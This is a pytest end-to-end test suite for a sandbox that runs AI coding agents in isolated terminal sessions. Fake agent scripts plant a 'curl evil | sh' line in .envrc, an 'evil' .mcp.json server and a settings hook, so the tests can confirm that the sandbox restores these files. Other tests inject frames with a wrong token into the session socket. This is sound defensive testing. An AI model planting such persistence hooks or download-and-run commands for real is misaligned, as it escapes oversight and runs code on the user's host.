"""Sessions end to end: real daemons, real PTYs (pexpect is the user's terminal), real sockets,
and the real linux-ns sandbox around every command."""

from __future__ import annotations

import json
import os
import signal
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

import pexpect
import pytest

from egg_core.session import protocol as p
from tests.helpers import wait_until

EGG = [sys.executable, "-P", "-m", "egg_core.cli"]
TIMEOUT = 20


def egg(
    env: dict[str, str], *args: str, cwd: Path, timeout: float = TIMEOUT
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*EGG, *args], env=env, cwd=cwd, capture_output=True, text=True, timeout=timeout
    )


def start(env: dict[str, str], project: Path, *command: str) -> str:
    result = egg(
        env, "run", "--detach", "--rows", "24", "--cols", "80", "--", *command, cwd=project
    )
    assert result.returncode == 0, result.stderr
    session = result.stdout.strip()
    assert len(session) == 8 and result.stdout == session + "\n"
    return session


def attach(
    env: dict[str, str], project: Path, session: str, *extra: str, rows: int = 24, cols: int = 80
) -> pexpect.spawn:
    child = pexpect.spawn(
        EGG[0],
        [*EGG[1:], "attach", *extra, session],
        env=env,
        cwd=str(project),
        dimensions=(rows, cols),
        timeout=TIMEOUT,
    )
    child.expect("\x1bc")  # the repaint starts with a reset: attached, terminal in raw mode
    return child


def session_dir(env: dict[str, str], session: str) -> Path:
    return Path(env["EGG_HOME"]) / "sessions" / session


def status(env: dict[str, str], project: Path, session: str) -> dict[str, object]:
    result = egg(env, "status", session, "--json", cwd=project)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def wait_exited(env: dict[str, str], session: str, timeout: float = TIMEOUT) -> dict[str, object]:
    meta_path = session_dir(env, session) / "egg.meta"
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        meta = json.loads(meta_path.read_text()) if meta_path.exists() else {}
        if meta.get("state") in ("exited", "failed", "crashed"):
            return meta
        time.sleep(0.05)
    raise AssertionError(f"session {session} did not exit")


def kill_daemon(env: dict[str, str], session: str) -> None:
    """SIGKILL the session's daemon and wait until it is gone (what the next egg command finds
    is a dead daemon, not one still dying)."""
    from egg_core.session.store import SessionPaths, daemon_alive

    paths = SessionPaths(session_dir(env, session))
    os.kill(int(paths.pid.read_text()), signal.SIGKILL)
    wait_until(lambda: not daemon_alive(paths), "the daemon gone")


def kill(env: dict[str, str], project: Path, session: str) -> None:
    """End a test's session: SIGKILL to its program, then wait for the daemon to be gone.

    ``egg kill`` sends SIGTERM, which the interactive shells most tests run ignore: KILL_GRACE
    (5 s) of every such test, a minute of the suite. The tests of ``egg kill`` itself run it."""
    from egg_core.errors import EggError
    from egg_core.session.client import Connection
    from egg_core.session.store import SessionPaths, daemon_alive

    paths = SessionPaths(session_dir(env, session))
    try:
        conn = Connection(paths)
        conn.send(p.KILL, p.pack_kill(signal.SIGKILL))
        conn.close()
    except EggError:  # not answering: egg kill's own way (SIGTERM, then the daemon's SIGKILL)
        egg(env, "kill", session, cwd=project)
        return
    deadline = time.monotonic() + TIMEOUT
    while daemon_alive(paths) and time.monotonic() < deadline:
        time.sleep(0.05)


def test_detached_run_prints_only_the_session_id_and_keeps_running(env, project):
    session = start(env, project, "sh")
    try:
        data = status(env, project, session)
        assert data["state"] == "running" and data["platform"] == "linux-ns"
        directory = session_dir(env, session)
        assert oct(directory.stat().st_mode & 0o777) == "0o700"
        for name in ("egg.sock", "egg.token"):
            assert oct((directory / name).stat().st_mode & 0o777) == "0o600"
        meta = json.loads((directory / "egg.meta").read_text())
        for key in ("agent", "cwd", "command", "platform", "network", "rows", "cols", "started"):
            assert key in meta
    finally:
        kill(env, project, session)


def test_attach_type_and_see_the_echo(env, project):
    session = start(env, project, "sh")
    try:
        child = attach(env, project, session)
        child.send("echo hello-from-$((6*7))\r")
        child.expect("hello-from-42")
        child.sendcontrol("\\")
        child.expect(r"detached from session")
        child.expect(pexpect.EOF)
        child.close()
        assert child.exitstatus == 0
        assert status(env, project, session)["state"] == "running"
    finally:
        kill(env, project, session)


def test_reattach_shows_the_earlier_screen(env, project):
    session = start(env, project, "sh")
    try:
        child = attach(env, project, session)
        child.send("echo marker-$((1000+234))\r")
        child.expect("marker-1234")
        child.sendcontrol("\\")
        child.expect(pexpect.EOF)
        again = attach(env, project, session)
        again.expect("marker-1234")
        again.sendcontrol("\\")
        again.expect(pexpect.EOF)
    finally:
        kill(env, project, session)


TUI = r"""
import sys, time
sys.stdout.write("\x1b[?1049h\x1b[?25l\x1b[2J\x1b[H")
sys.stdout.write("\x1b[5;10H\x1b[1;33mTUI-SCREEN-READY\x1b[0m")
sys.stdout.flush()
time.sleep(600)
"""


def test_reattach_repaints_an_alternate_screen_tui(env, project):
    (project / "tui.py").write_text(TUI)
    session = start(env, project, sys.executable, "tui.py")
    try:
        child = attach(env, project, session)
        child.expect("TUI-SCREEN-READY")
        child.sendcontrol("\\")
        child.expect(pexpect.EOF)
        again = attach(env, project, session)
        again.expect(r"\x1b\[\?1049h")
        again.expect("TUI-SCREEN-READY")
        again.sendcontrol("\\")
        again.expect(pexpect.EOF)
        screen = egg(env, "status", session, "--screen", cwd=project)
        assert screen.returncode == 0
        lines = screen.stdout.splitlines()
        assert lines[4][9:].startswith("TUI-SCREEN-READY")
    finally:
        kill(env, project, session)


#: asks the terminal for capabilities (XTGETTCAP) and settings (DECRQSS), 7-bit and C1, with no
#: client attached; the reattaching terminal must not be asked again (its answers would be typed
#: into the program)
DCS_ASKER = r"""
import os, time
os.write(1, b"\x1b[2J\x1b[Hasking\x1bP+q544e;636f6c6f7273\x1b\\\x1bP$qm\x1b\\"
            b"\xc2\x90+q4d73\x1b\\\xc2\x90$q\"p\x1b\\ QUERIES-ASKED")
open("asked", "w").close()
time.sleep(600)
"""


def test_a_reattach_repaint_asks_the_terminal_no_xtgettcap_or_decrqss(env, project):
    (project / "asker.py").write_text(DCS_ASKER)
    session = start(env, project, sys.executable, "asker.py")
    try:
        wait_until((project / "asked").exists, "the program to have asked")
        child = attach(env, project, session)
        child.expect("QUERIES-ASKED")
        repaint = child.before
        child.sendcontrol("\\")
        child.expect(pexpect.EOF)

        assert b"asking" in repaint
        assert b"+q" not in repaint and b"$q" not in repaint
    finally:
        kill(env, project, session)


def test_two_clients_see_the_same_output(env, project):
    session = start(env, project, "sh")
    try:
        first = attach(env, project, session)
        second = attach(env, project, session)
        wait_until(lambda: status(env, project, session)["clients"] == 2, "two clients")
        first.send("echo both-$((2+3))\r")
        first.expect("both-5")
        second.expect("both-5")
        for child in (first, second):
            child.sendcontrol("\\")
            child.expect(pexpect.EOF)
    finally:
        kill(env, project, session)


def test_read_only_client_input_is_ignored(env, project):
    session = start(env, project, "sh")
    try:
        watcher = attach(env, project, session, "--read-only")
        time.sleep(0.3)
        watcher.send("touch ro-was-here\r")
        time.sleep(0.5)
        writer = attach(env, project, session)
        writer.send("echo done-$((3*3))\r")
        writer.expect("done-9")
        watcher.expect("done-9")
        assert not (project / "ro-was-here").exists()
        for child in (watcher, writer):
            child.sendcontrol("\\")
            child.expect(pexpect.EOF)
    finally:
        kill(env, project, session)


def test_resize_reaches_the_program(env, project):
    session = start(env, project, "sh")
    try:
        child = attach(env, project, session, rows=33, cols=101)
        child.send("stty size\r")
        child.expect("33 101")
        child.setwinsize(40, 120)
        time.sleep(0.3)
        child.send("stty size\r")
        child.expect("40 120")
        child.sendcontrol("\\")
        child.expect(pexpect.EOF)
    finally:
        kill(env, project, session)


def test_sigkilled_client_leaves_the_session_running(env, project):
    session = start(env, project, "sh")
    try:
        child = attach(env, project, session)
        child.send("echo alive\r")
        child.expect("alive")
        os.kill(child.pid, signal.SIGKILL)
        child.close(force=True)
        # the daemon has seen the client go (not: a moment has passed)
        wait_until(lambda: status(env, project, session).get("clients", 0) == 0, "the client gone")
        assert status(env, project, session)["state"] == "running"
        again = attach(env, project, session)
        again.send("echo still-$((4+4))\r")
        again.expect("still-8")
        again.sendcontrol("\\")
        again.expect(pexpect.EOF)
    finally:
        kill(env, project, session)


def _raw_connect(env: dict[str, str], session: str) -> socket.socket:
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(10)
    sock.connect(str(session_dir(env, session) / "egg.sock"))
    return sock


def _receive_all(sock: socket.socket) -> bytes:
    data = b""
    try:
        while chunk := sock.recv(4096):
            data += chunk
    except (ConnectionResetError, TimeoutError):
        pass
    return data


@pytest.mark.parametrize(
    "payload",
    [
        p.encode(p.AUTH, b"0" * 64),  # wrong token
        p.encode(p.ATTACH, p.pack_attach(False, 24, 80)),  # no token at all
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",  # garbage
        struct.pack(">IB", 1 << 30, p.AUTH),  # oversized
        p.encode(p.STATUS),  # status without a token
    ],
    ids=["wrong-token", "no-token", "garbage", "oversized", "status-without-token"],
)
def test_unauthenticated_clients_get_nothing_and_the_session_survives(env, project, payload):
    session = start(env, project, "sh")
    try:
        sock = _raw_connect(env, session)
        sock.sendall(payload)
        assert _receive_all(sock) == b""
        sock.close()
        assert status(env, project, session)["state"] == "running"
    finally:
        kill(env, project, session)


def test_a_wrong_token_followed_by_requests_gets_no_answer_and_has_no_effect(env, project):
    """A wrong token alone proves nothing: a daemon that never compared it would also send
    nothing until asked. So the wrong token is followed by what a client would ask for — attach,
    type a command, status — and none of it may be answered or happen."""
    session = start(env, project, "sh")
    try:
        token = (session_dir(env, session) / "egg.token").read_bytes().strip()
        wrong = bytes(b ^ 1 for b in token)  # the same length, every byte different
        sock = _raw_connect(env, session)
        sock.sendall(
            p.encode(p.AUTH, wrong)
            + p.encode(p.ATTACH, p.pack_attach(False, 24, 80))
            + p.encode(p.INPUT, b"touch injected-by-a-wrong-token\r")
            + p.encode(p.STATUS)
        )
        sock.shutdown(socket.SHUT_WR)  # an honest daemon has closed already; a mutant answers
        assert _receive_all(sock) == b""
        sock.close()
        # the shell runs its input in order: once the right client's echo comes back, any
        # typed-in touch would have run before it
        honest = attach(env, project, session)
        honest.send("echo ready-$((2+3))\r")
        honest.expect("ready-5")
        assert not (project / "injected-by-a-wrong-token").exists()
        honest.sendcontrol("\\")
        honest.expect(pexpect.EOF)
        assert status(env, project, session)["state"] == "running"
    finally:
        kill(env, project, session)


def test_valid_token_then_a_malformed_frame_closes_only_that_connection(env, project):
    session = start(env, project, "sh")
    try:
        token = (session_dir(env, session) / "egg.token").read_bytes().strip()
        sock = _raw_connect(env, session)
        sock.sendall(p.encode(p.AUTH, token) + p.encode(p.INPUT, b"x"))  # INPUT before ATTACH
        _receive_all(sock)
        sock.close()
        other = attach(env, project, session)
        other.send("echo fine\r")
        other.expect("fine")
        other.sendcontrol("\\")
        other.expect(pexpect.EOF)
    finally:
        kill(env, project, session)


def test_another_user_cannot_reach_the_socket(env, project):
    session = start(env, project, "sh")
    try:
        sock_path = session_dir(env, session) / "egg.sock"
        probe = (
            f"import socket,sys\ns=socket.socket(socket.AF_UNIX)\ns.connect({str(sock_path)!r})\n"
        )
        result = subprocess.run(
            [
                "setpriv",
                "--reuid",
                "65534",
                "--regid",
                "65534",
                "--clear-groups",
                sys.executable,
                "-c",
                probe,
            ],
            capture_output=True,
            text=True,
            timeout=TIMEOUT,
        )
        assert result.returncode != 0
        assert "PermissionError" in result.stderr or "Permission denied" in result.stderr
    finally:
        kill(env, project, session)


def test_kill_ends_the_session(env, project):
    session = start(env, project, "sleep", "600")
    result = egg(env, "kill", session, cwd=project)
    assert result.returncode == 0, result.stderr
    meta = wait_exited(env, session)
    assert meta["state"] == "exited"
    assert not (session_dir(env, session) / "egg.sock").exists()
    listing = egg(env, "ls", "--all", "--json", cwd=project)
    assert session in {s["id"] for s in json.loads(listing.stdout)}
    assert session not in {
        s["id"] for s in json.loads(egg(env, "ls", "--json", cwd=project).stdout)
    }


def test_exit_code_is_delivered_to_the_attached_client(env, project):
    child = pexpect.spawn(
        EGG[0],
        [*EGG[1:], "run", "--", "sh", "-c", "echo bye; exit 7"],
        env=env,
        cwd=str(project),
        timeout=TIMEOUT,
    )
    child.expect("bye")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 7


def test_a_commands_exit_code_199_is_its_own_not_a_request_to_start_again(env, project):
    """Issue 24, item 1: only an agent whose profile says so (Gemini's RELAUNCH_EXIT_CODE) is
    started again when it exits 199; ``egg run -- CMD`` ends with the code, and no resume hint
    follows (nothing was captured)."""
    child = pexpect.spawn(
        EGG[0],
        [*EGG[1:], "run", "--", "sh", "-c", "echo once; exit 199"],
        env=env,
        cwd=str(project),
        timeout=TIMEOUT,
    )
    child.expect(pexpect.EOF)
    child.close()
    said = child.before.decode()
    assert child.exitstatus == 199
    assert said.count("once") == 1 and "[exited 199]" in said
    assert "--resume" not in said


def test_unknown_session_is_one_clear_line(env, project):
    result = egg(env, "attach", "nosuch", cwd=project)
    assert result.returncode == 2
    assert result.stderr.strip() == "egg: error: no session 'nosuch' (egg ls lists them)"


FAKE_CLAUDE = """#!/bin/sh
mkdir -p "$HOME/.claude"
printf '{"hooks": {"Stop": "evil"}}' > "$HOME/.claude/settings.json"
echo agent-wrote-settings
case " $* " in *" --linger "*) sleep 600 ;; esac
"""


def _fake_claude(env: dict[str, str], project: Path) -> Path:
    script = project / "bin" / "claude"
    script.write_text(FAKE_CLAUDE)
    script.chmod(0o755)
    settings = Path(env["HOME"]) / ".claude" / "settings.json"
    settings.parent.mkdir(parents=True, exist_ok=True)
    settings.write_text('{"hooks": {}}')
    return settings


def test_settings_are_restored_after_a_normal_exit(env, project):
    settings = _fake_claude(env, project)
    child = pexpect.spawn(
        EGG[0], [*EGG[1:], "run", "claude"], env=env, cwd=str(project), timeout=TIMEOUT
    )
    child.expect("agent-wrote-settings")
    child.expect(pexpect.EOF)
    assert json.loads(settings.read_text()) == {"hooks": {}}


def test_settings_are_restored_by_the_next_egg_command_after_the_daemon_is_sigkilled(env, project):
    settings = _fake_claude(env, project)
    result = egg(env, "run", "--detach", "claude", "--linger", cwd=project)
    assert result.returncode == 0, result.stderr
    session = result.stdout.strip()
    deadline = time.monotonic() + TIMEOUT
    while "evil" not in settings.read_text() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert "evil" in settings.read_text()
    kill_daemon(env, session)
    listing = egg(env, "ls", cwd=project)
    assert listing.stderr == ""
    doctor = egg(env, "doctor", cwd=project)
    assert f"session {session}: its daemon died; settings restored" in doctor.stdout
    assert json.loads(settings.read_text()) == {"hooks": {}}


def test_run_prints_one_line_and_the_holes_go_to_the_session_log(env, project):
    _fake_claude(env, project)
    quiet = egg(env, "run", "--detach", "claude", "--linger", cwd=project)
    loud = egg(env, "run", "--detach", "--verbose", "claude", "--linger", cwd=project)
    try:
        assert quiet.returncode == 0, quiet.stderr
        (line,) = quiet.stderr.splitlines()
        session = quiet.stdout.strip()
        assert line == f"egg: claude in linux-ns, session {session}; policy: egg explain claude"
        log = (session_dir(env, session) / "egg.log").read_text()
        assert "hole: domain api.anthropic.com for claude: the Claude API" in log
        assert "egg: domain api.anthropic.com for claude: the Claude API" in loud.stderr
    finally:
        for result in (quiet, loud):
            kill(env, project, result.stdout.strip())


def test_session_hooks_fire(env, project, tmp_path):
    """egg_session_started and egg_session_ended reach plugins in the daemon."""
    from tests.helpers import write_dist

    log = tmp_path / "hooks.log"
    site = write_dist(
        tmp_path / "site",
        "egg-hook-probe",
        "1",
        {"hookprobe": "egg_hook_probe"},
        {
            "egg_hook_probe": (
                "from egg_core.hookspecs import hookimpl\n"
                f"LOG = {str(log)!r}\n"
                "@hookimpl\n"
                "def egg_session_started(session):\n"
                "    open(LOG, 'a').write(f'started {session.id} {session.platform}\\n')\n"
                "@hookimpl\n"
                "def egg_session_ended(session, exit_code):\n"
                "    open(LOG, 'a').write(f'ended {session.id} {exit_code}\\n')\n"
            )
        },
    )
    hooked = {**env, "PYTHONPATH": str(site)}
    result = egg(hooked, "run", "--detach", "--", "sh", "-c", "exit 3", cwd=project)
    session = result.stdout.strip()
    wait_exited(hooked, session)
    assert log.read_text().splitlines() == [f"started {session} linux-ns", f"ended {session} 3"]


def test_a_plugin_tick_that_hangs_or_raises_holds_up_no_other_watcher(env, project, tmp_path):
    """Each plugin's egg_session_tick has its own thread: one that never returns and one that
    raises at every tick leave the built-in browser-open watcher working; the raising one is one
    line in the session's log however often it fails; and a tick never runs on the daemon's
    main thread (where the relay is)."""
    from tests.helpers import write_dist

    marks = tmp_path / "marks"
    site = write_dist(
        tmp_path / "site",
        "egg-tick-probe",
        "1",
        {"hangs": "egg_tick_hangs", "raises": "egg_tick_raises"},
        {
            "egg_tick_hangs": (
                "import threading, time\n"
                "from egg_core.api import hookimpl\n"
                f"MARKS = {str(marks)!r}\n"
                "@hookimpl\n"
                "def egg_session_tick(session):\n"
                "    main = threading.current_thread() is threading.main_thread()\n"
                "    open(MARKS, 'a').write(f'hangs main={main}\\n')\n"
                "    time.sleep(600)\n"
            ),
            "egg_tick_raises": (
                "from egg_core.api import hookimpl\n"
                f"MARKS = {str(marks)!r}\n"
                "@hookimpl\n"
                "def egg_session_tick(session, live):\n"
                "    open(MARKS, 'a').write('raises\\n')\n"
                "    raise ValueError('tick probe')\n"
            ),
        },
    )
    hooked = {**env, "PYTHONPATH": str(site)}
    session = start(hooked, project, "sh")
    try:
        wait_until(lambda: marks.exists() and marks.read_text().count("raises") >= 3, "three ticks")
        child = attach(hooked, project, session)
        child.send("xdg-open https://login.example.test/tick\r")
        child.expect(r"\[egg\] open in your browser: https://login.example.test/tick")
        child.sendcontrol("\\")
        child.expect(pexpect.EOF)
    finally:
        kill(hooked, project, session)
    lines = marks.read_text().splitlines()
    assert lines.count("hangs main=False") == 1 and "hangs main=True" not in lines
    log = (session_dir(hooked, session) / "egg.log").read_text()
    assert log.count("plugin raises: egg_session_tick failed: ValueError: tick probe") == 1


def test_browser_open_inside_is_recorded_and_shown_to_clients(env, project):
    session = start(env, project, "sh")
    try:
        child = attach(env, project, session)
        child.send("xdg-open https://login.example.test/device?code=42\r")
        child.expect(r"\[egg\] open in your browser: https://login.example.test/device\?code=42")
        log = session_dir(env, session) / "browser.log"
        assert json.loads(log.read_text().splitlines()[0])["url"] == (
            "https://login.example.test/device?code=42"
        )
        child.send('echo "$BROWSER"\r')
        child.expect("/run/egg-session/bin/egg-browser")
        child.sendcontrol("\\")
        child.expect(pexpect.EOF)
    finally:
        kill(env, project, session)


def test_audit_log_records_input_output_and_resizes_and_replays(env, project):
    result = egg(
        env, "run", "--detach", "--audit", "--rows", "24", "--cols", "80", "--", "sh", cwd=project
    )
    session = result.stdout.strip()
    try:
        child = attach(env, project, session, rows=30, cols=90)
        child.send("echo audited-$((40+2))\r")
        child.expect("audited-42")
        time.sleep(1.3)  # the log is sync-flushed every second: readable while the session runs
        from egg_core.session.audit import INPUT, OUTPUT, RESIZE, read_records

        records = list(read_records(session_dir(env, session) / "audit.log.gz"))
        kinds = {kind for _, kind, _ in records}
        assert {INPUT, OUTPUT, RESIZE} <= kinds
        typed = b"".join(data for _, kind, data in records if kind == INPUT)
        assert b"echo audited-$((40+2))" in typed
        stamps = [stamp for stamp, _, _ in records]
        assert stamps == sorted(stamps)
        replay = egg(env, "replay", session, "--no-delay", cwd=project)
        assert replay.returncode == 0 and "audited-42" in replay.stdout
        child.sendcontrol("\\")
        child.expect(pexpect.EOF)
    finally:
        kill(env, project, session)


def test_replay_without_audit_is_one_clear_line(env, project):
    session = start(env, project, "sleep", "600")
    try:
        result = egg(env, "replay", session, cwd=project)
        assert result.returncode == 1
        assert (
            result.stderr.strip()
            == f"egg: error: session {session} has no audit log (run it with --audit)"
        )
    finally:
        kill(env, project, session)


def test_idle_timeout_ends_a_quiet_session(env, project):
    result = egg(env, "run", "--detach", "--idle-timeout", "1", "--", "sleep", "600", cwd=project)
    session = result.stdout.strip()
    meta = wait_exited(env, session, timeout=15)
    assert meta["exit_reason"] == "idle timeout"
    assert "idle for 1 s" in (session_dir(env, session) / "egg.log").read_text()


def test_startup_watchdog_logs_a_silent_command(env, project):
    from egg_core.session.spec import RunSpec
    from egg_core.session.store import create_session, write_json

    paths = create_session(Path(env["EGG_HOME"]))
    spec = RunSpec(cwd=str(project), command=("sleep", "600"), startup_watchdog=0.5)
    write_json(paths.spec, spec.to_json())
    from egg_core.cli.context import Context
    from egg_core.cli.session_cmds import start_daemon

    start_daemon(paths, Context(env))
    try:
        deadline = time.monotonic() + 10
        while "startup watchdog" not in paths.log.read_text() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert "startup watchdog: no output in 0 s" in paths.log.read_text() or (
            "startup watchdog: no output in 1 s" in paths.log.read_text()
        )
        assert status(env, project, paths.id)["state"] == "running"
    finally:
        kill(env, project, paths.id)


def test_a_client_that_stops_reading_does_not_stall_the_session_or_other_clients(env, project):
    (project / "flood.py").write_text(
        "import sys, time\n"
        "line = b'x' * 200 + b'\\n'\n"
        "sys.stdin.readline()\n"
        "for i in range(60000): sys.stdout.buffer.write(line)\n"
        "sys.stdout.flush(); print('FLOOD-DONE', flush=True); time.sleep(600)\n"
    )
    session = start(env, project, sys.executable, "flood.py")
    try:
        token = (session_dir(env, session) / "egg.token").read_bytes().strip()
        stalled = _raw_connect(env, session)
        stalled.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        stalled.sendall(p.encode(p.AUTH, token) + p.encode(p.ATTACH, p.pack_attach(True, 24, 80)))
        # ... and never reads again.
        reader = attach(env, project, session)
        reader.send("\r")
        reader.expect("FLOOD-DONE", timeout=60)
        assert status(env, project, session)["bytes"] > 12_000_000
        reader.sendcontrol("\\")
        reader.expect(pexpect.EOF)
        stalled.close()
    finally:
        kill(env, project, session)


def test_workspace_hook_files_written_in_a_session_do_not_outlive_it(env, project):
    """Threat H: .mcp.json / .envrc written by the agent would run on the host later."""
    (project / ".envrc").write_text("export SAFE=1\n")
    fake = project / "bin" / "claude"
    fake.write_text(
        "#!/bin/sh\n"
        "echo 'curl evil | sh' >> .envrc\n"
        'echo \'{"mcpServers": {"x": {"command": "evil"}}}\' > .mcp.json\n'
        "echo agent-done\n"
    )
    fake.chmod(0o755)
    child = pexpect.spawn(
        EGG[0], [*EGG[1:], "run", "claude"], env=env, cwd=str(project), timeout=TIMEOUT
    )
    child.expect("agent-done")
    child.expect(pexpect.EOF)
    output = child.before.decode()
    assert (project / ".envrc").read_text() == "export SAFE=1\n"
    assert not (project / ".mcp.json").exists()
    assert "restored" in output and ".envrc" in output


def test_trace_records_the_sandboxed_commands_syscalls_from_outside(env, project):
    result = egg(env, "run", "--detach", "--trace", "--", "sh", "-c", "echo traced", cwd=project)
    session = result.stdout.strip()
    wait_exited(env, session)
    trace = (session_dir(env, session) / "trace.log").read_text()
    assert 'execve("/usr/bin/bwrap"' in trace or "bwrap" in trace
    assert 'execve("/bin/sh"' in trace or '"sh", "-c", "echo traced"' in trace


def test_a_program_that_does_not_read_its_input_does_not_freeze_the_daemon(env, project):
    session = start(env, project, "sleep", "600")
    try:
        token = (session_dir(env, session) / "egg.token").read_bytes().strip()
        sock = _raw_connect(env, session)
        sock.sendall(p.encode(p.AUTH, token) + p.encode(p.ATTACH, p.pack_attach(False, 24, 80)))
        for _ in range(40):  # 2.5 MiB of typing nobody reads: more than the PTY and the queue
            sock.sendall(p.encode(p.INPUT, b"x" * 65000))
        assert status(env, project, session)["state"] == "running"
        sock.close()
    finally:
        kill(env, project, session)


def test_attach_from_a_terminal_that_reports_zero_by_zero_uses_a_default_size(env, project):
    """Serial consoles and some CI runners report 0x0; that was "lost the connection"."""
    session = start(env, project, "sh", "-c", "sleep 1; stty size; sleep 1")
    child = attach(env, project, session, rows=0, cols=0)
    child.expect(pexpect.EOF)
    child.close()
    assert "24 80" in child.before.decode(errors="replace")
    assert child.exitstatus == 0
